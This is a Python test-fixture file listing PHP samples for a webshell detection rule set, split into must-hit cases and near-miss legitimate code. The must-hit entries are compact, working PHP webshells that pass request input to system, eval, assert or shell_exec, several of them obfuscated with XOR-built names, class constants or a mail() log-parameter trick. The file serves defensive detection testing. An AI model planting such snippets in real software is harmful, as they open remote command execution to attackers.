# ruff: noqa: E501
"""Must-hit / near-miss samples for issue 4u: misses of four blind batches of ML-dataset-style webshells.

Batches 1 (60), 2 (30), 3 (27) and 4 (22) were written without looking at the rules, in the style of the for-just-we and
ysrc sample collections; the ones main missed are kept here, each checked as written, `padded(...)` and
`embedded(...)`, plus near-miss legitimate code for every rule added or widened.  Nothing here comes from the
malware corpus.  Collected by tests/test_rules.py.
"""

from __future__ import annotations

from tests.sample_hosts import embedded, padded, plain

CASES: list[tuple[str, bytes, bool]] = [
    (
        "SPAMGEAR_INPUT_InputArraySpreadToSink",
        plain("<?php\n$a = [$_POST['c']];\nsystem(...$a);\n"),
        True,
    ),  # blind spread_cufa plain
    (
        "SPAMGEAR_INPUT_InputArraySpreadToSink",
        padded("<?php\n$a = [$_POST['c']];\nsystem(...$a);\n"),
        True,
    ),  # blind spread_cufa padded
    (
        "SPAMGEAR_INPUT_InputArraySpreadToSink",
        embedded("<?php\n$a = [$_POST['c']];\nsystem(...$a);\n"),
        True,
    ),  # blind spread_cufa embedded
    (
        "SPAMGEAR_OBFUSC_CommentBeforeParen",
        plain("<?php\n@assert # junk\n(\n$_REQUEST['a'] # more\n);\n"),
        True,
    ),  # blind hash_comment_assert plain
    (
        "SPAMGEAR_OBFUSC_CommentBeforeParen",
        padded("<?php\n@assert # junk\n(\n$_REQUEST['a'] # more\n);\n"),
        True,
    ),  # blind hash_comment_assert padded
    (
        "SPAMGEAR_OBFUSC_CommentBeforeParen",
        embedded("<?php\n@assert # junk\n(\n$_REQUEST['a'] # more\n);\n"),
        True,
    ),  # blind hash_comment_assert embedded
    (
        "SPAMGEAR_INPUT_PaddedSinkNameTrimmed",
        plain("<?php\n$b=$_GET['x'];\n$a=\"\\x09system\\n\";\ncall_user_func(trim($a), $b);\n"),
        True,
    ),  # blind trim_cuf plain
    (
        "SPAMGEAR_INPUT_PaddedSinkNameTrimmed",
        padded("<?php\n$b=$_GET['x'];\n$a=\"\\x09system\\n\";\ncall_user_func(trim($a), $b);\n"),
        True,
    ),  # blind trim_cuf padded
    (
        "SPAMGEAR_INPUT_PaddedSinkNameTrimmed",
        embedded("<?php\n$b=$_GET['x'];\n$a=\"\\x09system\\n\";\ncall_user_func(trim($a), $b);\n"),
        True,
    ),  # blind trim_cuf embedded
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        plain(
            "<?php\nclass QWER{\n    function __destruct(){\n        $A='hzqf'^\"\\x09\\x09\\x02\\x03\";\n        $B = $A . 'rt';\n        @$B($this->k);\n    }\n}\n$q=new QWER();\n@$q->k=$_POST['test'];\n"
        ),
        True,
    ),  # blind destruct_xor plain
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        padded(
            "<?php\nclass QWER{\n    function __destruct(){\n        $A='hzqf'^\"\\x09\\x09\\x02\\x03\";\n        $B = $A . 'rt';\n        @$B($this->k);\n    }\n}\n$q=new QWER();\n@$q->k=$_POST['test'];\n"
        ),
        True,
    ),  # blind destruct_xor padded
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        embedded(
            "<?php\nclass QWER{\n    function __destruct(){\n        $A='hzqf'^\"\\x09\\x09\\x02\\x03\";\n        $B = $A . 'rt';\n        @$B($this->k);\n    }\n}\n$q=new QWER();\n@$q->k=$_POST['test'];\n"
        ),
        True,
    ),  # blind destruct_xor embedded
    (
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        plain("<?php\nenum K: string { case F = 'system'; }\n(K::F->value)($_GET['x']);\n"),
        True,
    ),  # blind enum_const plain
    (
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        padded("<?php\nenum K: string { case F = 'system'; }\n(K::F->value)($_GET['x']);\n"),
        True,
    ),  # blind enum_const padded
    (
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        embedded("<?php\nenum K: string { case F = 'system'; }\n(K::F->value)($_GET['x']);\n"),
        True,
    ),  # blind enum_const embedded
    (
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        plain("<?php\nclass Z { const F = 'shell_exec'; }\necho (Z::F)($_POST['z']);\n"),
        True,
    ),  # blind class_const_sink plain
    (
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        padded("<?php\nclass Z { const F = 'shell_exec'; }\necho (Z::F)($_POST['z']);\n"),
        True,
    ),  # blind class_const_sink padded
    (
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        embedded("<?php\nclass Z { const F = 'shell_exec'; }\necho (Z::F)($_POST['z']);\n"),
        True,
    ),  # blind class_const_sink embedded
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        plain("<?php\n$c = $_COOKIE;\n($c['f'] ?? 'assert')($c['a']);\n"),
        True,
    ),  # blind b2_nested_ternary_cb plain
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        padded("<?php\n$c = $_COOKIE;\n($c['f'] ?? 'assert')($c['a']);\n"),
        True,
    ),  # blind b2_nested_ternary_cb padded
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        embedded("<?php\n$c = $_COOKIE;\n($c['f'] ?? 'assert')($c['a']);\n"),
        True,
    ),  # blind b2_nested_ternary_cb embedded
    (
        "SPAMGEAR_INPUT_DestructuredInputVarCall",
        plain("<?php\n[$f, $a] = [$_POST['f'], $_POST['a']];\n$f($a);\n"),
        True,
    ),  # blind b2_list_destructure plain
    (
        "SPAMGEAR_INPUT_DestructuredInputVarCall",
        padded("<?php\n[$f, $a] = [$_POST['f'], $_POST['a']];\n$f($a);\n"),
        True,
    ),  # blind b2_list_destructure padded
    (
        "SPAMGEAR_INPUT_DestructuredInputVarCall",
        embedded("<?php\n[$f, $a] = [$_POST['f'], $_POST['a']];\n$f($a);\n"),
        True,
    ),  # blind b2_list_destructure embedded
    (
        "SPAMGEAR_INPUT_InputCallbackVar",
        plain("<?php\n$h = $_GET['h'];\nob_start($h);\necho $_GET['d'];\nob_end_flush();\n"),
        True,
    ),  # blind b2_ob_callback_var plain
    (
        "SPAMGEAR_INPUT_InputCallbackVar",
        padded("<?php\n$h = $_GET['h'];\nob_start($h);\necho $_GET['d'];\nob_end_flush();\n"),
        True,
    ),  # blind b2_ob_callback_var padded
    (
        "SPAMGEAR_INPUT_InputCallbackVar",
        embedded("<?php\n$h = $_GET['h'];\nob_start($h);\necho $_GET['d'];\nob_end_flush();\n"),
        True,
    ),  # blind b2_ob_callback_var embedded
    (
        "SPAMGEAR_INPUT_MailLogParamOfInput",
        plain("<?php\nmail('a@b.c', 's', 'm', '', '-X ' . $_POST['f'] . ' -OQueueDirectory=/tmp');\n"),
        True,
    ),  # blind b2_mail_param plain
    (
        "SPAMGEAR_INPUT_MailLogParamOfInput",
        padded("<?php\nmail('a@b.c', 's', 'm', '', '-X ' . $_POST['f'] . ' -OQueueDirectory=/tmp');\n"),
        True,
    ),  # blind b2_mail_param padded
    (
        "SPAMGEAR_INPUT_MailLogParamOfInput",
        embedded("<?php\nmail('a@b.c', 's', 'm', '', '-X ' . $_POST['f'] . ' -OQueueDirectory=/tmp');\n"),
        True,
    ),  # blind b2_mail_param embedded
    (
        "SPAMGEAR_INPUT_InputArraySpreadToSink",
        plain("<?php\n$o = ['command' => $_GET['c']];\nsystem(...$o);\n"),
        True,
    ),  # blind b3_spread_assoc plain
    (
        "SPAMGEAR_INPUT_InputArraySpreadToSink",
        padded("<?php\n$o = ['command' => $_GET['c']];\nsystem(...$o);\n"),
        True,
    ),  # blind b3_spread_assoc padded
    (
        "SPAMGEAR_INPUT_InputArraySpreadToSink",
        embedded("<?php\n$o = ['command' => $_GET['c']];\nsystem(...$o);\n"),
        True,
    ),  # blind b3_spread_assoc embedded
    (
        "SPAMGEAR_INPUT_SinkLiteralNearCallResultOnInput",
        plain("<?php\nfunction f() { static $s = 'system'; return $s; }\nf()($_GET['c']);\n"),
        True,
    ),  # blind b3_static_var_fn plain
    (
        "SPAMGEAR_INPUT_SinkLiteralNearCallResultOnInput",
        padded("<?php\nfunction f() { static $s = 'system'; return $s; }\nf()($_GET['c']);\n"),
        True,
    ),  # blind b3_static_var_fn padded
    (
        "SPAMGEAR_INPUT_SinkLiteralNearCallResultOnInput",
        embedded("<?php\nfunction f() { static $s = 'system'; return $s; }\nf()($_GET['c']);\n"),
        True,
    ),  # blind b3_static_var_fn embedded
    (
        "SPAMGEAR_INPUT_VariableVariableSinkOfInput",
        plain("<?php\n$a = 'b';\n$b = $_POST['c'];\neval($$a);\n"),
        True,
    ),  # blind b3_var_var plain
    (
        "SPAMGEAR_INPUT_VariableVariableSinkOfInput",
        padded("<?php\n$a = 'b';\n$b = $_POST['c'];\neval($$a);\n"),
        True,
    ),  # blind b3_var_var padded
    (
        "SPAMGEAR_INPUT_VariableVariableSinkOfInput",
        embedded("<?php\n$a = 'b';\n$b = $_POST['c'];\neval($$a);\n"),
        True,
    ),  # blind b3_var_var embedded
    (
        "SPAMGEAR_INPUT_SinkLiteralNearCallResultOnInput",
        plain("<?php\n(isset($_GET['c']) ? 'system' : 'trim')($_GET['c']);\n"),
        True,
    ),  # blind b3_ternary_closure_call plain
    (
        "SPAMGEAR_INPUT_SinkLiteralNearCallResultOnInput",
        padded("<?php\n(isset($_GET['c']) ? 'system' : 'trim')($_GET['c']);\n"),
        True,
    ),  # blind b3_ternary_closure_call padded
    (
        "SPAMGEAR_INPUT_SinkLiteralNearCallResultOnInput",
        embedded("<?php\n(isset($_GET['c']) ? 'system' : 'trim')($_GET['c']);\n"),
        True,
    ),  # blind b3_ternary_closure_call embedded
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        plain("<?php\n$b = $_POST['b'];\ncall_user_func(strtolower('SYSTEM'), $b);\n"),
        True,
    ),  # blind b4_ucwords_cuf plain
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        padded("<?php\n$b = $_POST['b'];\ncall_user_func(strtolower('SYSTEM'), $b);\n"),
        True,
    ),  # blind b4_ucwords_cuf padded
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        embedded("<?php\n$b = $_POST['b'];\ncall_user_func(strtolower('SYSTEM'), $b);\n"),
        True,
    ),  # blind b4_ucwords_cuf embedded
    (
        "SPAMGEAR_INPUT_InputArraySpreadToSink",
        plain(
            "<?php\n$params = array_values($_GET);\n$stmt->execute(...$params);\n$args = [$_POST['page'], 10];\n$html = render_page(...$args);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_InputArraySpreadToSink",
        embedded(
            "<?php\n$params = array_values($_GET);\n$stmt->execute(...$params);\n$args = [$_POST['page'], 10];\n$html = render_page(...$args);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_PaddedSinkNameTrimmed",
        plain(
            "<?php\n$cat = ' system ';\necho trim($cat), esc_html($_GET['x']);\n$k = array_map('trim', $_POST['tags']);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_PaddedSinkNameTrimmed",
        embedded(
            "<?php\n$cat = ' system ';\necho trim($cat), esc_html($_GET['x']);\n$k = array_map('trim', $_POST['tags']);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        plain(
            "<?php\nclass Buf {\n  function __destruct() { $m = 'flush' . 'Buffer'; $this->$m($this->h); }\n}\n$form->name = $_POST['name'];\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        embedded(
            "<?php\nclass Buf {\n  function __destruct() { $m = 'flush' . 'Buffer'; $this->$m($this->h); }\n}\n$form->name = $_POST['name'];\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        plain(
            "<?php\nclass Cmd { const NAME = 'system'; }\necho (Cmd::NAME) . esc_html($_GET['x']);\nenum Kind: string { case Sys = 'system'; }\n$k = Kind::from($_GET['k']);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_StoredSinkNameCall",
        embedded(
            "<?php\nclass Cmd { const NAME = 'system'; }\necho (Cmd::NAME) . esc_html($_GET['x']);\nenum Kind: string { case Sys = 'system'; }\n$k = Kind::from($_GET['k']);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_InputCallbackVar",
        plain(
            "<?php\n$cb = $_GET['callback'];\nob_start();\necho preg_replace('/[^\\w]/', '', $cb) . '(' . json_encode($d) . ')';\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_InputCallbackVar",
        embedded(
            "<?php\n$cb = $_GET['callback'];\nob_start();\necho preg_replace('/[^\\w]/', '', $cb) . '(' . json_encode($d) . ')';\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_DestructuredInputVarCall",
        plain(
            "<?php\n[$page, $size] = [$_GET['p'] ?? 1, $_GET['s'] ?? 20];\n$rows = fetch_rows($page, $size);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_DestructuredInputVarCall",
        embedded(
            "<?php\n[$page, $size] = [$_GET['p'] ?? 1, $_GET['s'] ?? 20];\n$rows = fetch_rows($page, $size);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_MailLogParamOfInput",
        plain("<?php\nmail($to, $subject, $body, $headers, '-f' . $_POST['from']);\n"),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_MailLogParamOfInput",
        embedded("<?php\nmail($to, $subject, $body, $headers, '-f' . $_POST['from']);\n"),
        False,
    ),  # near miss
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        embedded(
            "<?php\n$data = $_POST;\n$title = $data['title'] ?? 'untitled';\n$handlers[$data['action']]($data['id']);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_SinkLiteralNearCallResultOnInput",
        embedded(
            "<?php\n$actions = ['view' => 'show_item', 'exec' => 'run_job'];\n$actions[$a]($_GET['id']);\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_VariableVariableSinkOfInput",
        plain("<?php\n$v = $_GET['v'];\n$k = 'v';\n$out = escapeshellarg($$k);\nprintf('%s', $$k);\n"),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_VariableVariableSinkOfInput",
        embedded("<?php\n$v = $_GET['v'];\n$k = 'v';\n$out = escapeshellarg($$k);\nprintf('%s', $$k);\n"),
        False,
    ),  # near miss
    (
        "SPAMGEAR_INPUT_SinkNameAsCallback",
        embedded(
            "<?php\n$names = array_map(strtolower('Trim'), $list);\ncall_user_func(strtolower('MyPlugin_Init'), $_GET['page']);\n$label = strtolower('SYSTEM');\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_OBFUSC_CommentBeforeParen",
        plain(
            "<?php\n/**\n * Never call eval\n * (see the security docs).\n */\n$x = $enabled # toggled in settings\n  ? run() : skip();\n"
        ),
        False,
    ),  # near miss
    (
        "SPAMGEAR_OBFUSC_CommentBeforeParen",
        embedded(
            "<?php\n/**\n * Never call eval\n * (see the security docs).\n */\n$x = $enabled # toggled in settings\n  ? run() : skip();\n"
        ),
        False,
    ),  # near miss
]
